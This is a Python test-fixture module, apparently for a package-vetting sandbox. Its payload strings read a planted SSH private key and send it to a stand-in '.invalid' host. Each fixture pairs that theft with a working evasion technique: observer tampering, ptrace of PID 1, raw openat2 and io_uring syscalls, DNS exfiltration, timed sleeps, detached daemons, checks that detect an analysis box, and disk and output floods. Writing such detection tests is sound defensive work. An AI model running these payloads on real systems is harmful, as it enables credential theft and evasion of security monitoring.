"""Inert fixtures for the sandbox's observation: each one evasion, then the theft.

The theft reads the planted `~/.ssh/id_rsa` and sends it to `exfil.pkgvet-test.invalid`
(RFC 6761: never resolves outside the sandbox, where the sink records it). Each evasion is the
cheapest version of a trick that blinded, fooled or outwaited the first sandbox: tampering with
the observer, a system call nobody traced, a flood, a datagram with no connect, a long sleep, a
renamed shell, a daemon left running. Only ever installed inside the sandbox container.
"""

from __future__ import annotations

THEFT = '''
import os as _os
import socket as _socket


def _theft(blob=None):
    if blob is None:
        try:
            with open(_os.path.expanduser("~/.ssh/id_rsa")) as fh:
                blob = fh.read()
        except OSError:
            blob = ""
    try:
        with _socket.create_connection(("exfil.pkgvet-test.invalid", 443), timeout=3) as conn:
            conn.sendall(blob[:400].encode())
    except OSError:
        pass
'''

TAMPER_REPORT_CHANNEL = THEFT + '''
for _path in ("/proc/1/fd/1", "/proc/self/../1/fd/1"):
    try:
        _fd = _os.open(_path, _os.O_WRONLY)
        _os.write(_fd, b'{"type": "done", "events": ')  # a partial line swallows the next one
        _os.close(_fd)
    except OSError:
        pass
_theft()
'''

TAMPER_TRACE_PIPE = THEFT + '''
for _fd in range(3, 256):  # whatever descriptor the observer may have left open
    try:
        _os.write(_fd, b'4242 openat(AT_FDCWD, "/x", O_RDONLY')
    except OSError:
        pass
for _name in _os.listdir("/tmp"):  # the observer's own folder, if it can be entered
    for _inner in ("journal", "trace", "fifo"):
        try:
            with open(_os.path.join("/tmp", _name, _inner), "w") as _fh:
                _fh.write("4242 openat(")
        except OSError:
            pass
try:
    _os.listdir("/proc/1/fd")
except OSError:
    pass
_theft()
'''

PTRACE_PID1 = THEFT + '''
import ctypes as _ctypes

_libc = _ctypes.CDLL(None, use_errno=True)
_libc.ptrace(0x4206, 1, 0, 0)  # PTRACE_SEIZE the observer
_theft()
'''

OPENAT2_READ = THEFT + '''
import ctypes as _ctypes
import struct as _struct

_libc = _ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = _ctypes.c_long
_how = _ctypes.create_string_buffer(_struct.pack("QQQ", _os.O_RDONLY, 0, 0), 24)
_path = _os.path.expanduser("~/.ssh/id_rsa").encode()
_fd = _libc.syscall(437, _ctypes.c_int(-100), _ctypes.c_char_p(_path), _how, _ctypes.c_size_t(24))
_blob = ""
if _fd >= 0:
    _blob = _os.read(_fd, 8192).decode()
    _os.close(_fd)
_theft(_blob)
'''

EVENT_FLOOD = THEFT + '''
_cache = _os.path.expanduser("~/.config/lint-cache")
for _i in range(20500):
    try:
        open("%s/%d.json" % (_cache, _i))
    except OSError:
        pass
_theft()
'''

SENDTO_DNS = THEFT + '''
import struct as _struct


def _query(name):
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    return _struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + labels + b"\\0\\0\\1\\0\\1"


try:
    with open(_os.path.expanduser("~/.ssh/id_rsa")) as _fh:
        _secret = _fh.read().splitlines()[1][:24]
except (OSError, IndexError):
    _secret = "none"
_name = _secret.encode().hex() + ".exfil.pkgvet-test.invalid"
for _server in (("127.0.0.1", 53), ("192.0.2.53", 53)):
    _sock = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
    try:
        _sock.sendto(_query(_name), _server)  # no connect: one datagram
    except OSError:
        pass
    _sock.close()
'''

LONG_SLEEP = THEFT + '''
import time as _time

_time.sleep(200)
_theft()
'''

CHECKED_SLEEP = THEFT + '''
import datetime as _datetime
import threading as _threading
import time as _time

_before = (_time.time(), _time.monotonic(), _datetime.datetime.now())
_time.sleep(200)
_threading.Event().wait(60)
_after = (_time.time(), _time.monotonic(), _datetime.datetime.now())
# Proceed only if the sleeps really lasted (as an analysis box that skips sleeps fails it).
if _after[0] - _before[0] >= 259 and _after[1] - _before[1] >= 259 and \\
        (_after[2] - _before[2]).total_seconds() >= 259:
    _theft()
'''

NATIVE_SLEEP = THEFT + '''
import subprocess as _subprocess
import time as _time

_before = _time.time()
_subprocess.run(["sleep", "200"], check=False)  # a program's sleep, not Python's
if _time.time() - _before >= 199:
    _theft()
'''

RAW_SYSCALL_SLEEP = THEFT + '''
import ctypes as _ctypes

# nanosleep(2) without libc's wrapper: no library between the package and the kernel.
_libc = _ctypes.CDLL(None, use_errno=True)
_req = (_ctypes.c_long * 2)(200, 0)
_libc.syscall(35, _req, None)
_theft()
'''

ASYNCIO_SLEEP = THEFT + '''
import asyncio as _asyncio


async def _later():
    await _asyncio.sleep(200)
    _theft()


_asyncio.run(_later())
'''

RENAMED_SHELL = THEFT + '''
import shutil as _shutil
import subprocess as _subprocess
import tempfile as _tempfile

_folder = _tempfile.mkdtemp()
_shutil.copy("/bin/sh", _folder + "/gcc")
_os.chmod(_folder + "/gcc", 0o755)
_subprocess.run([_folder + "/gcc", "-c", "read x < $HOME/.ssh/id_rsa"], check=False)
_theft()
'''

DAEMON_LEFT = '''
import os as _os
import select as _select

if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        _null = _os.open("/dev/null", _os.O_RDWR)
        for _fd in (0, 1, 2):
            _os.dup2(_null, _fd)
        _quiet, _ = _os.pipe()
        _select.select([_quiet], [], [], 300)  # waits on a descriptor: real time
    _os._exit(0)
'''

DAEMON_SLEEPS_THEN_STEALS = THEFT + '''
import time as _time

if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        _null = _os.open("/dev/null", _os.O_RDWR)
        for _fd in (0, 1, 2):
            _os.dup2(_null, _fd)
        _time.sleep(300)  # past any sandbox's limit, the installer long gone
        _theft()
    _os._exit(0)
'''

READ_PID1_MEMORY = THEFT + '''
for _path in ("/proc/1/mem", "/proc/1/environ", "/proc/1/maps"):
    try:
        with open(_path, "rb") as _fh:  # the observer's memory: its job, its secrets
            _fh.read(4096)
    except OSError:
        pass
_theft()
'''

IO_URING = THEFT + '''
import ctypes as _ctypes

_libc = _ctypes.CDLL(None, use_errno=True)
_params = _ctypes.create_string_buffer(120)
_ring = _libc.syscall(425, 8, _params)  # io_uring_setup: reads that no open() shows
if _ring >= 0:
    _os.close(_ring)
_theft()
'''

UNNORMALISED_PATH = THEFT + '''
_home = _os.path.expanduser("~")
_blob = ""
for _path in ("/proc/self/root" + _home + "/./.ssh//../.ssh/id_rsa",):
    try:
        with open(_path) as _fh:
            _blob = _fh.read()
    except OSError:
        pass
_theft(_blob)
'''

DETECTION_TRICKS = THEFT + '''
import json as _json


def _read(path):
    try:
        with open(path, "rb") as fh:
            return fh.read(65536).decode("utf-8", "replace")
    except OSError:
        return ""


def _tracer():
    return any(l.split()[1:] != ["0"] for l in _read("/proc/self/status").splitlines()
               if l.startswith("TracerPid:"))


def _mounts():
    text = _read("/proc/self/mountinfo").lower()
    return any(w in text for w in ("pkgvet", "/wheelhouse", "sandbox"))


def _init_cmdline():
    text = (_read("/proc/1/cmdline") + _read("/proc/1/comm")).lower()
    return any(w in text for w in ("probe", "pkgvet", "sandbox"))


def _hostname():
    name = _socket.gethostname().lower()
    return name in ("build", "sandbox", "localhost") or "pkgvet" in name


def _only_loopback():
    names = [n for _, n in _socket.if_nameindex() if n != "lo"]
    try:
        listed = [n for n in _os.listdir("/sys/class/net") if n != "lo"]
    except OSError:
        listed = []
    return not names or not listed


def _no_resolver():
    try:
        _socket.gethostbyname("pypi.org")
        return False
    except OSError:
        return True


def _bare_home():
    home = _os.path.expanduser("~")
    try:
        entries = _os.listdir(home)
    except OSError:
        return True
    return len(entries) < 8 or ".bash_history" not in entries


def _young_machine():
    """Booted minutes ago, or PID 1 started seconds ago: an analysis box."""
    import time

    try:
        up = float(_read("/proc/uptime").split()[0])
        init = int(_read("/proc/1/stat").rsplit(")", 1)[1].split()[19])
        boot = int(next(l for l in _read("/proc/stat").splitlines()
                        if l.startswith("btime")).split()[1])
    except (ValueError, IndexError, StopIteration):
        return True
    return up < 3600 or up - init / _os.sysconf("SC_CLK_TCK") < 600 or \\
        time.time() - boot < 3600


def _git_user():
    text = _read(_os.path.expanduser("~/.git-credentials")).lower()
    return any(w in text for w in ("pkgvet", "sandbox", "test"))


def _job_file():
    key = _os.environ.get("AWS_ACCESS_KEY_ID", "") or "AKIA"
    for folder in ("/", "/tmp", "/pkgvet", "/srv", "/run", "/opt"):
        try:
            names = _os.listdir(folder)
        except OSError:
            continue
        for name in names:
            path = _os.path.join(folder, name)
            if name.endswith(".json") and key in _read(path):
                return True
    return _os.path.exists("/pkgvet/job.json")


_CHECKS = {"tracer": _tracer, "mounts": _mounts, "init-cmdline": _init_cmdline,
           "hostname": _hostname, "only-loopback": _only_loopback, "no-resolver": _no_resolver,
           "bare-home": _bare_home, "git-user": _git_user, "job-file": _job_file,
           "young-machine": _young_machine}
_fired = [name for name, check in _CHECKS.items() if check()]
try:
    with _socket.create_connection(("tricks.pkgvet-test.invalid", 80), timeout=3) as _conn:
        _conn.sendall(_json.dumps(_fired).encode())
except OSError:
    pass
if not _fired:  # an ordinary machine: act
    _theft()
'''

DETECTION_TRICKS_UNDER_STRACE = DETECTION_TRICKS.replace(
    '"tracer": _tracer, ', "")
"""Under runc, strace is the tracer: TracerPid cannot be 0 there (gVisor traces from the host,
which is why it is the default). Every other trick must see an ordinary machine."""

SANDBOX_EVASIONS = {
    # name: (payload, rules the sandbox alone must report)
    "tamper-report-channel": (TAMPER_REPORT_CHANNEL, {"PV817", "PV801", "PV803"}),
    "tamper-trace-pipe": (TAMPER_TRACE_PIPE, {"PV817", "PV801", "PV803"}),
    "ptrace-pid1": (PTRACE_PID1, {"PV817", "PV801", "PV803"}),
    "openat2-read": (OPENAT2_READ, {"PV821", "PV806"}),
    "event-flood": (EVENT_FLOOD, {"PV801", "PV803"}),
    "sendto-dns": (SENDTO_DNS, {"PV806", "PV803"}),
    "renamed-shell": (RENAMED_SHELL, {"PV825", "PV804", "PV801"}),
    "daemon-left-running": (DAEMON_LEFT, {"PV814"}),
    "daemon-sleeps-then-steals": (DAEMON_SLEEPS_THEN_STEALS, {"PV824", "PV801", "PV803"}),
    "read-pid1-memory": (READ_PID1_MEMORY, {"PV817", "PV801", "PV803"}),
    "io-uring": (IO_URING, {"PV822", "PV801", "PV803"}),
    "unnormalised-path": (UNNORMALISED_PATH, {"PV801", "PV803"}),
    "detection-tricks": (DETECTION_TRICKS, {"PV801", "PV803"}),
    "detection-tricks-but-tracer": (DETECTION_TRICKS_UNDER_STRACE, {"PV801", "PV803"}),
}

OUTPUT_FLOOD = '''
import sys as _sys

_chunk = "x" * (1 << 20) + "\\n"
for _ in range(300):  # 300 MiB on standard output, at import time
    _sys.stdout.write(_chunk)
_sys.stdout.flush()
'''

DISK_FILL = '''
_block = b"\\0" * (1 << 22)
try:
    with open("/tmp/.fill", "wb") as _fh:
        for _ in range(4096):
            _fh.write(_block)
            _fh.flush()
except OSError:
    pass
'''
